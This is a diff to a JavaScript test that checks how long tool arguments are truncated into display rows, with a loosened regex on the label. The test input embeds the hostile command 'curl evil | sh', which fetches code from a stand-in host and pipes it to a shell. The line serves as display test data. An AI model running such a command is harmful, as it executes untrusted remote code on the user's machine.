@@ -90,7 +90,7 @@ describe('Arguments as rows', () => {
     const text = `begin ${'x'.repeat(300)}; curl evil | sh`;
     const { rows, rest } = argumentRows({ text }, 1);
     const label = rows[0]?.label ?? '';
-    assert.match(label, /^text: "begin x+ … rl evil \| sh"$/);
+    assert.match(label, /^text: "begin x+ … \w* evil \| sh"$/);
     assert.equal(rows[0]?.length, text.length + 2);
     // No character is counted twice or left out.
     const shown = label.replace('text: ', '').replace(' … ', '').length;
